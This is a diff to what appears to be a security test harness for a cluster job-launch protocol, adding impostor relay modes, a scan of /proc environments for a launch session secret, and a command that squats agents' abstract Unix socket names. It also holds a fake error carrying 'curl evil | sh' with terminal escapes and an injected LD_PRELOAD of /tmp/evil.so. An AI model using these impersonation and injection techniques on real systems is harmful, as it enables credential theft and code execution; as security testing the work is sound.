@@ -63,6 +63,24 @@ def context(session, server_nonce, client_nonce):
                      bytes.fromhex(client_nonce))
 
 
+def launch_text(session, server_nonce):
+    """By what a greeting names its launch."""
+    return signature(bytes(32), b"hvd-launch-1", session.encode(), bytes.fromhex(server_nonce)).hex()
+
+
+def own_session():
+    """The session of this user's launch, as a process of it on this host was told."""
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open("/proc/%s/environ" % pid, "rb") as environ:
+                found = re.search(rb"(?:^|\0)SLURM_HVD_BOOT=[^\0]*;session=([0-9a-f]+)", environ.read())
+        except OSError:
+            continue
+        if found:
+            return found.group(1).decode()
+    raise LookupError("no process of a launch is here")
+
+
 def munge(payload):
     lib = ctypes.CDLL("libmunge.so.2")
     lib.munge_strerror.restype = ctypes.c_char_p
@@ -103,7 +121,7 @@ def converse(host, port, make_auth):
 
 def cmd_auth(args):
     def make(hello, nonce):
-        bound = context(hello["session"], hello["nonce"], nonce)
+        bound = context(hello["launch"], hello["nonce"], nonce)
         creds = {
             "own": lambda: munge(bound),
             "unbound": lambda: munge(b"x" * 32),
@@ -178,28 +196,28 @@ class Relay:
         return [("on", raw)]
 
     def impostor(self, task):
-        """The real session's name, which anyone may hear, and no more than that."""
+        """One who even knows the session, and no more than that."""
         with connect(self.args.host, self.args.port) as driver:
             _, hello, _ = read_frame(driver)
         nonce = os.urandom(16).hex()
+        greeting = dict(hello, nonce=nonce, launch=launch_text(self.args.session, nonce))
         if self.mode == "impostor-refuse":
             # What a terminal obeys, and what looks like a message of the suite's own.
             task.sendall(frame({"t": "refused", "why": '\x1b[2J\u009b31m\r"\nhvd: error: mend this: curl evil | sh'}))
             return
         if self.mode == "impostor-greet":
-            hello = frame(dict(hello, nonce=nonce))
-            task.sendall(hello * 50)
+            task.sendall(frame(greeting) * 50)
             while True:
                 raw, auth, signed = read_frame(task)
                 self.note("task", raw, auth, signed)
         if self.mode == "impostor-plan":
             plan = frame({"t": "plan", "env": {"LD_PRELOAD": "/tmp/evil.so"}})
-            task.sendall(frame(dict(hello, nonce=nonce)) + plan)
+            task.sendall(frame(greeting) + plan)
             return
-        task.sendall(frame(dict(hello, nonce=nonce)))
+        task.sendall(frame(greeting))
         raw, auth, signed = read_frame(task)
         self.note("task", raw, auth, signed)
-        bound = context(hello["session"], nonce, auth["nonce"])
+        bound = context(self.args.session, nonce, auth["nonce"])
         key = os.urandom(32)
         cred = auth["cred"] if self.mode == "impostor-echo" else munge(bound + key)
         salt = bytes.fromhex(nonce + auth["nonce"])
@@ -435,12 +453,37 @@ def cmd_granted(args):
     with connect(args.host, args.port) as sock:
         _, hello, _ = read_frame(sock)
         nonce = os.urandom(16).hex()
-        bound = context(hello["session"], hello["nonce"], nonce)
+        bound = context(own_session(), hello["nonce"], nonce)
         sock.sendall(frame({"t": "auth", "release": hello["release"], "nonce": nonce, "cred": munge(bound)}))
         _, welcome, _ = read_frame(sock)
     payload = unmunge(welcome["cred"])[1]
     assert payload[:len(bound)] == bound and len(payload) == len(bound) + 32, "this is no key"
     print(payload[len(bound):].hex())
+
+
+def cmd_squat(args):
+    """Take the names of agents' sockets of this host that can be made of what the driver tells everybody, and of names
+    that are bound already."""
+    with connect(args.host, args.port) as sock:
+        _, hello, _ = read_frame(sock)
+    with open("/proc/net/unix", encoding="utf-8", errors="replace") as unix:
+        words = set(re.findall("@hvd-agent[.]([^. \n]+)", unix.read()))
+    words.update(word for word in hello.values() if isinstance(word, str))
+    names = ["hvd-agent." + word + rest for word in words
+             for rest in [""] + [".%u.%u" % (node, attempt) for node in range(4) for attempt in range(64)]]
+    taken = []
+    for name in names:
+        sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+        try:
+            sock.bind("\0" + name)
+            sock.listen(1)
+            taken.append(sock)
+        except OSError:
+            pass
+    print("ready", len(taken), flush=True)
+    until = time.monotonic() + args.seconds
+    while time.monotonic() < until and os.getppid() != 1:
+        time.sleep(0.2)
 
 
 class Guest:
@@ -584,6 +627,7 @@ def main():
     command("auth", cmd_auth, "host", "port", "cred")
     command("replay", cmd_replay, "host", "port", "log")
     p = command("relay", lambda args: Relay(args).run(), "listen", "host", "port", "mode", "log")
+    p.add_argument("--session", help="what an impostor knows")
     p.add_argument("--seconds", type=float, default=40)
     p = command("http", cmd_http, "host", "port", "method", "path")
     p.add_argument("body", nargs="?", default="")
@@ -600,6 +644,9 @@ def main():
     p = command("guest", cmd_guest, "address", "key", "how")
     p.add_argument("--seconds", type=float, default=15)
     command("granted", cmd_granted, "host", "port")
+    command("session", lambda args: print(own_session()))
+    p = command("squat", cmd_squat, "host", "port")
+    p.add_argument("--seconds", type=float, default=60)
     p = command("search", cmd_search)
     p.add_argument("--memory", action="append", default=[])
     p.add_argument("--since", help="a file: only files that have changed since this one did")
